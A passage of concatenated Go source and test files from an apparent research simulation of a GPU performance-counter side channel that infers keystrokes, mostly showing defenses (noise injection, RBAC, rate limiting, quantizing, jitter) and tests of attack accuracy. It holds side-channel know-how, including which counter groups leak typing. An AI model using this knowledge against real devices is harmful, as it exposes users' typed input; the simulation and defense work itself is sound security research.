var Workloads = []*Workload{Gedit, GmailWeb, Dropbox}

func baseVec(scale float64) [NumCounters]float64 {
	// Typical magnitudes of the respective CUPTI metrics for a desktop
	// text-editing redraw.
	raw := [NumCounters]float64{42, 0.31, 18, 52000, 31000, 210000, 8800, 1.9e6}
	for i := range raw {
		raw[i] *= scale
	}
	return raw
}

// KeystrokeSample returns the counter deltas observed over the 10 ms
// window covering one keystroke of rune r. The glyph's rasterized pixel
// count modulates the counters weakly; multiplicative noise dominates.
func (w *Workload) KeystrokeSample(r rune, rng *sim.Rand) []float64 {
	g := glyph.MustLookup(r)
	m := g.MeasureIn(refBox)
	// Normalized per-glyph signal in [0, ~1].
	signal := float64(m.PixelArea) / float64(refBox.Area())
	out := make([]float64, NumCounters)
	for i := 0; i < NumCounters; i++ {
		sig := w.base[i] * w.sensitivity * signal * sigShape(i)
		noise := w.base[i] * rng.Norm(0, w.noise)
		out[i] = w.base[i] + sig + noise
	}
	return out
}

// sigShape distributes the glyph signal unevenly across counters, as real
// metrics respond differently to rasterization work.
func sigShape(i int) float64 {
	shapes := [NumCounters]float64{1.0, 0.2, 0.8, 1.2, 1.1, 0.9, 0.5, 0.3}
	return shapes[i]
}

// refBox is the desktop glyph cell used to derive per-key pixel signals.
var refBox = geom.XYWH(0, 0, 18, 28)
