package cupti

import (
	"testing"

	"gpuleak/internal/baseline"
	"gpuleak/internal/sim"
)

var alphabet = []rune("abcdefghijklmnopqrstuvwxyz0123456789")

func TestThreeWorkloads(t *testing.T) {
	if len(Workloads) != 3 {
		t.Fatalf("workload count = %d", len(Workloads))
	}
	names := map[string]bool{}
	for _, w := range Workloads {
		names[w.Name] = true
	}
	for _, want := range []string{"gedit", "gmail-web", "dropbox-client"} {
		if !names[want] {
			t.Errorf("workload %q missing", want)
		}
	}
}

func TestSampleDimensions(t *testing.T) {
	rng := sim.NewRand(1)
	s := Gedit.KeystrokeSample('a', rng)
	if len(s) != NumCounters {
		t.Fatalf("sample dim = %d", len(s))
	}
	for i, v := range s {
		if v <= 0 {
			t.Fatalf("counter %s non-positive: %v", CounterNames[i], v)
		}
	}
}

func TestSignalExistsButIsWeak(t *testing.T) {
	// Average many samples: per-key means must differ (there IS signal),
	// but single samples must be dominated by noise (low SNR).
	rng := sim.NewRand(2)
	meanFor := func(r rune) float64 {
		var sum float64
		for i := 0; i < 4000; i++ {
			sum += Gedit.KeystrokeSample(r, rng)[0]
		}
		return sum / 4000
	}
	mw := meanFor('w')
	md := meanFor('.')
	gap := mw - md
	if gap <= 0 {
		t.Fatalf("no ordered signal: w=%v . =%v", mw, md)
	}
	// Noise std on counter 0 is base*noise = 42*0.04 = 1.68; the extreme
	// w-vs-. signal gap may reach the noise scale, but typical inter-key
	// gaps sit far below it (that is Table 2's whole point).
	if gap > 8.0 {
		t.Fatalf("signal too strong for the Table-2 regime: gap=%v", gap)
	}
	ma := meanFor('a')
	mb := meanFor('b')
	if g := ma - mb; g > 2.0 || g < -2.0 {
		t.Fatalf("typical inter-key gap too strong: %v", g)
	}
}

// TestTable2Regime verifies the headline: classical classifiers on
// workload-level counters reach only ~8-14% per-key accuracy.
func TestTable2Regime(t *testing.T) {
	rng := sim.NewRand(3)
	build := func(n int) *baseline.Dataset {
		d := &baseline.Dataset{}
		for i := 0; i < n; i++ {
			y := i % len(alphabet)
			d.Add(Gedit.KeystrokeSample(alphabet[y], rng), y)
		}
		return d
	}
	train := build(len(alphabet) * 30)
	test := build(len(alphabet) * 10)

	chance := 1.0 / float64(len(alphabet))
	for _, c := range []baseline.Classifier{&baseline.GaussianNB{}, &baseline.KNN{K: 3}} {
		if err := c.Fit(train); err != nil {
			t.Fatal(err)
		}
		acc := baseline.Accuracy(c, test)
		if acc < chance {
			t.Errorf("%s below chance: %v", c.Name(), acc)
		}
		if acc > 0.30 {
			t.Errorf("%s too accurate for workload-level counters: %v", c.Name(), acc)
		}
		t.Logf("%s: %.3f (chance %.3f)", c.Name(), acc, chance)
	}
}

func TestDeterministicGivenSeed(t *testing.T) {
	a := Gedit.KeystrokeSample('q', sim.NewRand(9))
	b := Gedit.KeystrokeSample('q', sim.NewRand(9))
	for i := range a {
		if a[i] != b[i] {
			t.Fatal("sampling not deterministic")
		}
	}
}

func TestWorkloadsDiffer(t *testing.T) {
	if Gedit.base == GmailWeb.base {
		t.Fatal("workload bases identical")
	}
}
