package defense

import (
	"sync"

	"gpuleak/internal/adreno"
	"gpuleak/internal/kgsl"
	"gpuleak/internal/sim"
)

// NoiseObfuscator is the §9.3 OS-level obfuscation: the system executes
// small random GPU workloads in the background, so global counters carry
// a monotone random walk on top of real work. Amplitude is the mean extra
// counter increment per vsync-sized bucket, expressed as a fraction of
// Scale (the typical key-press delta of that counter). It implements
// kgsl.Obfuscator and backs the registered "noise" defense; the historic
// mitigate.NoiseObfuscator name aliases it.
type NoiseObfuscator struct {
	// Amplitude is the obfuscation strength: 0 disables, 1 injects
	// key-press-sized noise every bucket (heavy GPU cost).
	Amplitude float64
	// Scale is the per-counter reference magnitude (typical key delta).
	Scale [adreno.NumSelected]uint64
	// Seed makes the injected workload stream reproducible.
	Seed uint64

	mu  sync.Mutex
	cum map[adreno.CounterKey][]uint64 // memoized cumulative noise per bucket
}

// bucket is the obfuscation workload cadence (one injected draw slot per
// display frame).
const bucket = 16 * sim.Millisecond

// Obfuscate implements kgsl.Obfuscator: value plus the cumulative injected
// work up to time t. Cumulative noise keeps counters monotone — the
// injected workloads are real GPU draws, not register tampering.
func (o *NoiseObfuscator) Obfuscate(k adreno.CounterKey, value uint64, t sim.Time) uint64 {
	if o.Amplitude <= 0 || t < 0 {
		return value
	}
	idx := adreno.SelectedIndex(k)
	if idx < 0 {
		return value
	}
	b := int(t / bucket)
	return value + o.cumNoise(k, idx, b)
}

func (o *NoiseObfuscator) cumNoise(k adreno.CounterKey, idx, b int) uint64 {
	o.mu.Lock()
	defer o.mu.Unlock()
	if o.cum == nil {
		o.cum = make(map[adreno.CounterKey][]uint64)
	}
	c := o.cum[k]
	for len(c) <= b {
		prev := uint64(0)
		if len(c) > 0 {
			prev = c[len(c)-1]
		}
		c = append(c, prev+o.increment(idx, len(c)))
	}
	o.cum[k] = c
	return c[b]
}

// DefaultCounterScale holds representative per-counter key-press delta
// magnitudes (OnePlus 8 Pro, FHD+, GBoard), used when Scale is unset.
var DefaultCounterScale = [adreno.NumSelected]uint64{
	1600, 26000, 4000, 2_900_000, 480_000, 2400, 58000, 52000, 1700, 13000, 80,
}

// increment draws the injected work for one bucket: uniform in
// [0, 2*Amplitude*Scale], so the mean rate is Amplitude*Scale per bucket.
func (o *NoiseObfuscator) increment(idx, b int) uint64 {
	scale := o.Scale[idx]
	if scale == 0 {
		scale = DefaultCounterScale[idx]
	}
	h := splitmix(o.Seed ^ uint64(idx)<<32 ^ uint64(b))
	max := uint64(2 * o.Amplitude * float64(scale))
	if max == 0 {
		return 0
	}
	return h % (max + 1)
}

func splitmix(x uint64) uint64 {
	x += 0x9e3779b97f4a7c15
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9
	x = (x ^ (x >> 27)) * 0x94d049bb133111eb
	return x ^ (x >> 31)
}

// GPUCostFraction estimates the GPU utilization the obfuscation workloads
// themselves consume — the §9.3 tradeoff ("excessive GPU workloads impair
// the system's performance"). The injected work per bucket averages
// Amplitude key-press-equivalents; a key press costs roughly 2-4 ms of
// GPU time per 16 ms bucket.
func (o *NoiseObfuscator) GPUCostFraction() float64 {
	cost := o.Amplitude * 0.18
	if cost > 1 {
		cost = 1
	}
	return cost
}

// DefaultScale derives per-counter reference magnitudes from a trained
// attack model's mean key delta (what the OS vendor would measure on a
// reference device).
func DefaultScale(meanKeyDelta [adreno.NumSelected]float64) [adreno.NumSelected]uint64 {
	var out [adreno.NumSelected]uint64
	for i, v := range meanKeyDelta {
		if v < 0 {
			v = -v
		}
		out[i] = uint64(v)
	}
	return out
}

// RBACPolicy is the §9.2 fine-grained role-based access control: only
// processes whose SELinux context is on the allowlist may read global GPU
// performance counter values; everything else gets EPERM. This is the
// "SELinux Access Manager + ioctl command whitelisting" design. It
// implements kgsl.Policy; the registered "rbac" defense is its graded
// probe-level sibling (masking instead of refusing whole block reads).
type RBACPolicy struct {
	// AllowedContexts lists SELinux contexts with global PC access
	// (profilers, platform tooling).
	AllowedContexts map[string]bool
	// RestrictedGroups limits enforcement to specific counter groups;
	// empty means all groups are restricted.
	RestrictedGroups map[uint32]bool
}

// NewRBACPolicy builds the paper's recommended policy: platform and shell
// domains may profile; untrusted apps may not read any global counter.
func NewRBACPolicy() *RBACPolicy {
	return &RBACPolicy{
		AllowedContexts: map[string]bool{
			"u:r:platform_app:s0": true,
			"u:r:shell:s0":        true,
			"u:r:su:s0":           true,
		},
	}
}

// RestrictOverdrawGroupsOnly narrows the policy to the LRZ/RAS/VPC groups
// the attack needs, leaving other counters readable (a compatibility
// compromise discussed in §9.2).
func (p *RBACPolicy) RestrictOverdrawGroupsOnly() *RBACPolicy {
	p.RestrictedGroups = map[uint32]bool{
		adreno.GroupLRZ: true,
		adreno.GroupRAS: true,
		adreno.GroupVPC: true,
	}
	return p
}

// AllowPerfcounterRead implements kgsl.Policy.
func (p *RBACPolicy) AllowPerfcounterRead(ctx kgsl.ProcContext, k adreno.CounterKey) error {
	if p.AllowedContexts[ctx.SELinuxContext] {
		return nil
	}
	if len(p.RestrictedGroups) > 0 && !p.RestrictedGroups[k.Group] {
		return nil
	}
	return kgsl.ErrPerm
}
