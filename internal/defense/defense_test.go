package defense

// Tests of the registry contract (duplicate/empty/"+" names panic,
// unknown names fail with the sentinel, "+" parses into a chain), the
// strength-0 byte-identical passthrough, strength range validation, and
// the per-wrapper behaviors: rate-limit denial taxonomy, jitter's
// monotone snapshot clamp, quantize flooring, rbac masking, and
// TickFault forwarding through every wrapper.

import (
	"errors"
	"reflect"
	"testing"

	"gpuleak/internal/android"
	"gpuleak/internal/channel"
	_ "gpuleak/internal/kgslchan" // registers the KGSL channel taxonomyOf resolves
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
	"gpuleak/internal/victim"
)

// stubPolicy lets the Register panic tests offer invalid names without
// touching the real defense set.
type stubPolicy struct{ name string }

func (p stubPolicy) Name() string                      { return p.name }
func (p stubPolicy) Doc() string                       { return "stub" }
func (p stubPolicy) Channels() []string                { return nil }
func (p stubPolicy) Overhead(strength float64) float64 { return 0 }
func (p stubPolicy) Arm(sess *victim.Session, strength float64, seed int64) (Instance, error) {
	return passthrough{}, nil
}

func mustPanic(t *testing.T, what string, fn func()) {
	t.Helper()
	defer func() {
		if recover() == nil {
			t.Errorf("%s did not panic", what)
		}
	}()
	fn()
}

func TestRegisterPanics(t *testing.T) {
	mustPanic(t, "empty name", func() { Register(stubPolicy{name: ""}) })
	mustPanic(t, "chain separator in name", func() { Register(stubPolicy{name: "a+b"}) })
	mustPanic(t, "duplicate name", func() { Register(stubPolicy{name: "jitter"}) })
}

func TestGetUnknown(t *testing.T) {
	for _, name := range []string{"", "scramble", "quantize+scramble"} {
		if _, err := Get(name); !errors.Is(err, ErrUnknownDefense) {
			t.Errorf("Get(%q) = %v, want ErrUnknownDefense", name, err)
		}
	}
}

func TestNamesCoverTheRegisteredSet(t *testing.T) {
	names := Names()
	found := map[string]bool{}
	for _, n := range names {
		found[n] = true
	}
	for _, want := range []string{"jitter", "noise", "quantize", "ratelimit", "rbac"} {
		if !found[want] {
			t.Errorf("Names() = %v missing %q", names, want)
		}
	}
	all := All()
	if len(all) != len(names) {
		t.Fatalf("All() has %d policies, Names() has %d", len(all), len(names))
	}
	for i, p := range all {
		if p.Name() != names[i] {
			t.Errorf("All()[%d].Name() = %q, want %q (Names order)", i, p.Name(), names[i])
		}
	}
}

func TestGetChain(t *testing.T) {
	p, err := Get("quantize+jitter")
	if err != nil {
		t.Fatal(err)
	}
	if p.Name() != "quantize+jitter" {
		t.Errorf("chain name %q", p.Name())
	}
	wantCh := []string{channel.DefaultName, "proccount"}
	if !reflect.DeepEqual(p.Channels(), wantCh) {
		t.Errorf("chain channels %v, want %v (sorted union)", p.Channels(), wantCh)
	}
	q, _ := Get("quantize")
	j, _ := Get("jitter")
	if got, want := p.Overhead(0.5), q.Overhead(0.5)+j.Overhead(0.5); got != want {
		t.Errorf("chain overhead %v, want member sum %v", got, want)
	}
}

func TestZeroStrengthIsByteIdenticalPassthrough(t *testing.T) {
	sess := victim.New(victim.Config{Device: android.OnePlus8Pro, Seed: 1})
	probe := &fakeProbe{}
	for _, p := range All() {
		inst, err := p.Arm(sess, 0, 7)
		if err != nil {
			t.Fatalf("%s: Arm at strength 0: %v", p.Name(), err)
		}
		if got := inst.WrapProbe(channel.DefaultName, probe); got != channel.Probe(probe) {
			t.Errorf("%s: strength-0 WrapProbe did not return its argument", p.Name())
		}
		if inst.Overhead() != 0 {
			t.Errorf("%s: strength-0 overhead %v, want 0", p.Name(), inst.Overhead())
		}
	}
}

func TestStrengthRange(t *testing.T) {
	sess := victim.New(victim.Config{Device: android.OnePlus8Pro, Seed: 1})
	policies := All()
	policies = append(policies, Chain(policies[0], policies[1]))
	for _, p := range policies {
		for _, s := range []float64{-0.1, 1.5} {
			if _, err := p.Arm(sess, s, 7); !errors.Is(err, ErrStrength) {
				t.Errorf("%s: Arm(strength=%v) = %v, want ErrStrength", p.Name(), s, err)
			}
		}
		if p.Overhead(1) < 0 || p.Overhead(1) > 1 {
			t.Errorf("%s: Overhead(1) = %v outside [0,1]", p.Name(), p.Overhead(1))
		}
	}
}

func TestAppliesTo(t *testing.T) {
	nz, _ := Get("noise")
	if !AppliesTo(nz, channel.DefaultName) {
		t.Error("noise must cover the KGSL channel")
	}
	if AppliesTo(nz, "proccount") {
		t.Error("noise is device-level: it must not claim the proccount channel")
	}
	rl, _ := Get("ratelimit")
	if !AppliesTo(rl, "proccount") {
		t.Error("ratelimit covers every polled interface, proccount included")
	}
}

func TestMaskedGroupsEscalation(t *testing.T) {
	cases := []struct {
		strength float64
		want     []string
	}{
		{0, []string{}},
		{0.3, []string{"VPC"}},
		{0.5, []string{"RAS", "VPC"}},
		{1, []string{"LRZ", "RAS", "VPC"}},
	}
	for _, c := range cases {
		if got := MaskedGroups(c.strength); !reflect.DeepEqual(got, c.want) {
			t.Errorf("MaskedGroups(%v) = %v, want %v", c.strength, got, c.want)
		}
	}
}

// fakeProbe is a deterministic inner probe: it returns fixed counter
// values and records the snapshot times it was read at.
type fakeProbe struct {
	vals  trace.Raw
	reads []sim.Time
}

func (p *fakeProbe) ReserveSelected(t sim.Time) error { return nil }

func (p *fakeProbe) ReadSelected(t sim.Time) (trace.Raw, error) {
	p.reads = append(p.reads, t)
	return p.vals, nil
}

// faultyProbe is a fakeProbe that also exposes a tick-fault schedule,
// standing in for a fault-plane wrapper beneath the defense.
type faultyProbe struct{ fakeProbe }

func (p *faultyProbe) TickFault(tick int, t sim.Time) (sim.Time, bool) {
	return sim.Time(tick), tick%2 == 1
}

// armWrap arms one registry defense at a strength and wraps a probe for
// the KGSL channel.
func armWrap(t *testing.T, name string, strength float64, p channel.Probe) channel.Probe {
	t.Helper()
	pol, err := Get(name)
	if err != nil {
		t.Fatal(err)
	}
	inst, err := pol.Arm(victim.New(victim.Config{Device: android.OnePlus8Pro, Seed: 1}), strength, 7)
	if err != nil {
		t.Fatal(err)
	}
	return inst.WrapProbe(channel.DefaultName, p)
}

func TestRateLimitDeniesWithBusyTaxonomy(t *testing.T) {
	ch, err := channel.Get(channel.DefaultName)
	if err != nil {
		t.Fatal(err)
	}
	inner := &fakeProbe{}
	wrapped := armWrap(t, "ratelimit", 1, inner)
	// Strength 1 sustains 4 reads/s with burst 2: the first two reads at
	// t=0 are the burst, the third must be denied with the channel's Busy
	// sentinel so the attacker's retry classification recovers it.
	for i := 0; i < 2; i++ {
		if _, err := wrapped.ReadSelected(0); err != nil {
			t.Fatalf("burst read %d denied: %v", i, err)
		}
	}
	if _, err := wrapped.ReadSelected(0); !errors.Is(err, ch.Taxonomy().Busy) {
		t.Errorf("over-budget read = %v, want the channel's Busy sentinel", err)
	}
	// A read after one period replenishes one token.
	if _, err := wrapped.ReadSelected(sim.Second / 4); err != nil {
		t.Errorf("read after a period denied: %v", err)
	}
}

func TestJitterKeepsSnapshotsMonotone(t *testing.T) {
	inner := &fakeProbe{}
	wrapped := armWrap(t, "jitter", 1, inner)
	for tick := 0; tick < 64; tick++ {
		if _, err := wrapped.ReadSelected(sim.Time(tick) * 8 * sim.Millisecond); err != nil {
			t.Fatal(err)
		}
	}
	jittered := false
	for i, at := range inner.reads {
		if i > 0 && at <= inner.reads[i-1] {
			t.Fatalf("snapshot %d at %v not after %v: cumulative counters would regress", i, at, inner.reads[i-1])
		}
		if at != sim.Time(i)*8*sim.Millisecond {
			jittered = true
		}
	}
	if !jittered {
		t.Error("strength-1 jitter never moved a snapshot time")
	}
}

func TestQuantizeFloorsToTheGrid(t *testing.T) {
	scale, ok := quantizeScale(channel.DefaultName)
	if !ok {
		t.Fatal("no quantize scale for the default channel")
	}
	inner := &fakeProbe{}
	for i := range inner.vals {
		inner.vals[i] = 1000003 + uint64(i)
	}
	wrapped := armWrap(t, "quantize", 1, inner)
	vals, err := wrapped.ReadSelected(0)
	if err != nil {
		t.Fatal(err)
	}
	for i, v := range vals {
		q := 1 + scale[i]
		if v%q != 0 {
			t.Errorf("dim %d: %d not on the strength-1 grid (quantum %d)", i, v, q)
		}
		if v > inner.vals[i] {
			t.Errorf("dim %d: quantized %d above raw %d: flooring must never round up", i, v, inner.vals[i])
		}
	}
}

func TestRBACMasksRestrictedDims(t *testing.T) {
	inner := &fakeProbe{}
	for i := range inner.vals {
		inner.vals[i] = 100 + uint64(i)
	}
	wrapped := armWrap(t, "rbac", 1, inner)
	vals, err := wrapped.ReadSelected(0)
	if err != nil {
		t.Fatal(err)
	}
	for i, v := range vals {
		if v != 0 {
			t.Errorf("dim %d: strength-1 rbac exported %d, want the constant 0", i, v)
		}
	}
}

func TestWrappersForwardTickFaults(t *testing.T) {
	for _, name := range []string{"jitter", "quantize", "ratelimit", "rbac"} {
		wrapped := armWrap(t, name, 1, &faultyProbe{})
		tf, ok := wrapped.(tickFaults)
		if !ok {
			t.Errorf("%s wrapper hides the inner probe's tick-fault schedule", name)
			continue
		}
		if delay, drop := tf.TickFault(3, 0); delay != 3 || !drop {
			t.Errorf("%s: TickFault(3) = (%v, %v), want forwarded (3, true)", name, delay, drop)
		}
		// A plain inner probe resolves to a clean tick.
		clean := armWrap(t, name, 1, &fakeProbe{}).(tickFaults)
		if delay, drop := clean.TickFault(3, 0); delay != 0 || drop {
			t.Errorf("%s: clean inner probe yielded TickFault (%v, %v)", name, delay, drop)
		}
	}
}

func TestSeedDerivation(t *testing.T) {
	if Seed(1, 0) == Seed(1, 1) {
		t.Error("Seed must separate scenarios")
	}
	if Seed(1, 0) != Seed(1, 0) {
		t.Error("Seed must be deterministic")
	}
	if Seed(1, 0) == Seed(2, 0) {
		t.Error("Seed must depend on the base seed")
	}
}
