package defense

import (
	"sort"
	"strings"

	"gpuleak/internal/channel"
	"gpuleak/internal/victim"
)

// Chain combines defenses into one policy: Arm arms every member on the
// session in listed order at the shared strength, probe wraps compose
// with the first member innermost (closest to the device), overheads
// add (capped at 1), and the channel set is the union of the members'.
// Get builds chains from "+"-joined names ("quantize+jitter"); the
// combinator itself is not in the registry — chains are derived, the
// atomic policies are the vocabulary.
func Chain(members ...Policy) Policy {
	return chain(members)
}

type chain []Policy

func (c chain) Name() string {
	names := make([]string, len(c))
	for i, p := range c {
		names[i] = p.Name()
	}
	return strings.Join(names, "+")
}

func (c chain) Doc() string {
	return "chain of " + c.Name() + ": members armed in listed order, first innermost"
}

func (c chain) Channels() []string {
	seen := map[string]bool{}
	for _, p := range c {
		for _, ch := range p.Channels() {
			seen[ch] = true
		}
	}
	out := make([]string, 0, len(seen))
	for ch := range seen {
		out = append(out, ch)
	}
	sort.Strings(out)
	return out
}

// Overhead implements Policy: defenses stack, so their cost estimates
// add, saturating at the whole budget.
func (c chain) Overhead(strength float64) float64 {
	sum := 0.0
	for _, p := range c {
		sum += p.Overhead(strength)
	}
	if sum > 1 {
		sum = 1
	}
	return sum
}

// Arm implements Policy: every member arms on the session with a seed
// derived from its position, so two members of the same kind would not
// replay each other's randomness.
func (c chain) Arm(sess *victim.Session, strength float64, seed int64) (Instance, error) {
	if err := checkStrength(strength); err != nil {
		return nil, err
	}
	if strength == 0 {
		return passthrough{}, nil
	}
	insts := make([]Instance, len(c))
	for i, p := range c {
		inst, err := p.Arm(sess, strength, Seed(seed, i))
		if err != nil {
			return nil, err
		}
		insts[i] = inst
	}
	return chainInstance{insts: insts, overhead: c.Overhead(strength)}, nil
}

type chainInstance struct {
	insts    []Instance
	overhead float64
}

func (ci chainInstance) WrapProbe(channelName string, p channel.Probe) channel.Probe {
	for _, inst := range ci.insts {
		p = inst.WrapProbe(channelName, p)
	}
	return p
}

func (ci chainInstance) Overhead() float64 { return ci.overhead }
