// Package defense is the composable counter-defense plane: a registry of
// strength-parameterized policies that operators deploy against the
// paper's GPU perf-counter leak (§9) and its fused OS-counter sibling.
// Where internal/fault models the environment fighting the attacker by
// accident, this package models the platform fighting back on purpose —
// rate limiting the counter interface, quantizing or noising its values,
// masking counter groups behind RBAC, and jittering read latency — each
// with a single strength knob in [0, 1] and a GPUCostFraction-style
// overhead estimate, so the attack-vs-defense frontier (cmd/arms) can
// trade attacker accuracy against defender cost.
//
// A Policy describes one defense; Arm binds it to a victim session at a
// strength and returns an Instance that (a) may have installed
// device-level hooks (kgsl.Device.SetPolicy / SetObfuscator) and (b)
// wraps the probes of the channels it covers. Per-channel applicability
// (Policy.Channels) is what lets defenses compose with the fusion path:
// a KGSL-only defense leaves the proccount probe untouched, and the
// fused attacker keeps whatever the undefended channel still leaks.
//
// Implementations self-register through Register from their package's
// init function (the gpuvet defensereg analyzer enforces this, mirroring
// channelreg); consumers resolve them by name through Get. Get also
// parses "a+b" into a chain: the combinator that arms several defenses
// on one session, device hooks first-listed innermost.
//
// # Determinism contract
//
// Defenses follow the channel plane's replay rules: all randomness is a
// pure function of (seed, counter index, sim-time), never of wall clock,
// call count across probes, or scheduling, so a fixed (defense,
// strength, seed) replays bit-identically at any worker count. Strength
// 0 is a byte-identical passthrough — Arm installs nothing and WrapProbe
// returns its argument unchanged — mirroring the fault plane's zero
// profile.
package defense

import (
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"

	"gpuleak/internal/channel"
	"gpuleak/internal/sim"
	"gpuleak/internal/victim"
)

// ErrUnknownDefense reports a defense name absent from the registry.
// Match with errors.Is; the serving layer maps it onto HTTP 400.
var ErrUnknownDefense = errors.New("defense: unknown defense")

// ErrStrength reports a strength outside [0, 1]. Match with errors.Is;
// the serving layer maps it onto HTTP 400 through serve.ErrBadRequest.
var ErrStrength = errors.New("defense: strength must be in [0, 1]")

// Policy is one registered defense: a named, strength-parameterized
// countermeasure that can be armed on a victim session.
type Policy interface {
	// Name is the registry key ("ratelimit", "quantize", "noise", "rbac",
	// "jitter"); chains join member names with "+".
	Name() string
	// Doc is a one-line operator-facing description of the mechanism and
	// what its strength knob controls.
	Doc() string
	// Channels lists the side-channel registry names the defense covers,
	// sorted. Probes of channels outside the set pass through unchanged.
	Channels() []string
	// Overhead estimates the defense's cost to the platform at the given
	// strength as a fraction of GPU/system capacity, in the style of
	// NoiseObfuscator.GPUCostFraction. It is a pure function of strength.
	Overhead(strength float64) float64
	// Arm binds the defense to one victim session at the given strength
	// and seed: device-level hooks are installed here, probe-level wraps
	// come from the returned Instance. Strength 0 must install nothing
	// and return a passthrough; strengths outside [0, 1] fail with an
	// error matching ErrStrength.
	Arm(sess *victim.Session, strength float64, seed int64) (Instance, error)
}

// Instance is one armed defense on one victim session. Implementations
// are owned by the session's sampling goroutines the way probes are; all
// state lives per wrapped probe.
type Instance interface {
	// WrapProbe wraps one channel's probe in the defense's read path. For
	// channels outside the policy's applicability set — and always at
	// strength 0 — it returns p unchanged, the byte-identical passthrough.
	WrapProbe(channelName string, p channel.Probe) channel.Probe
	// Overhead reports the armed strength's cost estimate, the value the
	// arms tournament plots against attacker accuracy.
	Overhead() float64
}

var (
	regMu    sync.RWMutex
	registry = map[string]Policy{}
)

// Register adds a defense to the registry. It is called from the
// implementing package's init function and panics on a duplicate, empty
// or "+"-bearing name, mirroring the channel and analyzer registries
// ("+" is the chain separator Get parses).
func Register(p Policy) {
	name := p.Name()
	if name == "" {
		panic("defense: Register with empty name")
	}
	if strings.Contains(name, "+") {
		panic(fmt.Sprintf("defense: Register(%q): name must not contain the chain separator '+'", name))
	}
	regMu.Lock()
	defer regMu.Unlock()
	if _, dup := registry[name]; dup {
		panic(fmt.Sprintf("defense: duplicate Register(%q)", name))
	}
	registry[name] = p
}

// Get resolves a defense by name. A name containing "+" resolves every
// part and returns their Chain ("quantize+jitter"), the composition
// order being the listed order. Unknown or empty names fail with an
// error matching ErrUnknownDefense.
func Get(name string) (Policy, error) {
	parts := strings.Split(name, "+")
	if len(parts) > 1 {
		members := make([]Policy, 0, len(parts))
		for _, part := range parts {
			p, err := Get(strings.TrimSpace(part))
			if err != nil {
				return nil, err
			}
			members = append(members, p)
		}
		return Chain(members...), nil
	}
	if name == "" {
		return nil, fmt.Errorf("%w: empty name (registered: %v)", ErrUnknownDefense, Names())
	}
	regMu.RLock()
	p, ok := registry[name]
	regMu.RUnlock()
	if !ok {
		return nil, fmt.Errorf("%w: %q (registered: %v)", ErrUnknownDefense, name, Names())
	}
	return p, nil
}

// Names lists the registered defense names, sorted.
func Names() []string {
	regMu.RLock()
	out := make([]string, 0, len(registry))
	for name := range registry {
		out = append(out, name)
	}
	regMu.RUnlock()
	sort.Strings(out)
	return out
}

// All returns the registered defenses in Names order.
func All() []Policy {
	regMu.RLock()
	defer regMu.RUnlock()
	names := make([]string, 0, len(registry))
	for name := range registry {
		names = append(names, name)
	}
	sort.Strings(names)
	out := make([]Policy, 0, len(names))
	for _, name := range names {
		out = append(out, registry[name])
	}
	return out
}

// AppliesTo reports whether a policy covers a channel registry name.
func AppliesTo(p Policy, channelName string) bool {
	for _, c := range p.Channels() {
		if c == channelName {
			return true
		}
	}
	return false
}

// Seed derives the deterministic defense seed for one scenario from a
// base seed, the same derivation shape as fault.Seed, so tournaments and
// served requests agree on the schedule for a given (seed, trial).
func Seed(base int64, scenario int) int64 {
	return sim.TaskSeed(base^0x646566 /* "def" */, scenario)
}

// checkStrength validates the knob's range.
func checkStrength(strength float64) error {
	if strength < 0 || strength > 1 {
		return fmt.Errorf("%w: got %v", ErrStrength, strength)
	}
	return nil
}

// passthrough is the strength-0 instance: no device hooks were
// installed, and probes pass through untouched.
type passthrough struct{}

func (passthrough) WrapProbe(_ string, p channel.Probe) channel.Probe { return p }

func (passthrough) Overhead() float64 { return 0 }

// instance is the common armed-defense shape: a probe-wrapping function
// gated by the policy's channel set, plus the strength's cost estimate.
type instance struct {
	channels []string
	overhead float64
	wrap     func(channelName string, p channel.Probe) channel.Probe
}

func (in *instance) WrapProbe(channelName string, p channel.Probe) channel.Probe {
	if in.wrap == nil {
		return p
	}
	for _, c := range in.channels {
		if c == channelName {
			return in.wrap(channelName, p)
		}
	}
	return p
}

func (in *instance) Overhead() float64 { return in.overhead }

// tickFaults mirrors attack.TickFaults structurally: the optional
// clock-perturbation surface of a device plane. Every probe wrapper in
// this package forwards it, so a defense layered over a fault plane
// (serve allows both on one request) does not hide the fault schedule
// from the sampler's type assertion.
type tickFaults interface {
	TickFault(tick int, t sim.Time) (delay sim.Time, drop bool)
}

// forwardTickFault resolves a wrapped probe's tick schedule: the inner
// probe's if it has one, a clean tick otherwise.
func forwardTickFault(inner channel.Probe, tick int, t sim.Time) (sim.Time, bool) {
	if tf, ok := inner.(tickFaults); ok {
		return tf.TickFault(tick, t)
	}
	return 0, false
}
