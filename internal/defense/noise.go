package defense

import (
	"gpuleak/internal/channel"
	"gpuleak/internal/victim"
)

// noiseMaxAmplitude is the obfuscation amplitude at strength 1: half a
// key-press-equivalent of injected GPU work per vsync bucket, which the
// §9.3 matrix already shows is far past the point where the classifier
// collapses, at a GPU cost of noiseMaxAmplitude·0.18 ≈ 9%. The sweep
// ramps amplitude quadratically in strength — the §9.3 matrix shows tiny
// amplitudes already bite, so a linear ramp would saturate the frontier
// at the first step.
const noiseMaxAmplitude = 0.5

// noiseAmplitude maps a strength to the injected amplitude.
func noiseAmplitude(strength float64) float64 {
	return noiseMaxAmplitude * strength * strength
}

// noise is the §9.3 noise-injection defense as a registered policy: Arm
// installs a seeded NoiseObfuscator on the session's KGSL device, so
// every unprivileged counter read carries a monotone random walk of
// fake GPU work on top of the real signal. It is device-level — the
// proccount channel reads OS bookkeeping, not the KGSL export path — so
// a fused attacker keeps the OS channel's coarse view, which is exactly
// the composition gap the arms tournament quantifies.
type noise struct{}

func (noise) Name() string { return "noise" }

func (noise) Doc() string {
	return "seeded background GPU workloads obfuscate counter values (kgsl.Obfuscator); strength scales amplitude and GPU cost together"
}

func (noise) Channels() []string { return []string{channel.DefaultName} }

// Overhead implements Policy: the obfuscator's own GPUCostFraction at
// the strength's amplitude.
func (noise) Overhead(strength float64) float64 {
	o := NoiseObfuscator{Amplitude: noiseAmplitude(strength)}
	return o.GPUCostFraction()
}

// Arm implements Policy: installs the obfuscator device hook; probes
// pass through untouched (the perturbation happens inside the driver).
func (d noise) Arm(sess *victim.Session, strength float64, seed int64) (Instance, error) {
	if err := checkStrength(strength); err != nil {
		return nil, err
	}
	if strength == 0 {
		return passthrough{}, nil
	}
	sess.Device.SetObfuscator(&NoiseObfuscator{
		Amplitude: noiseAmplitude(strength),
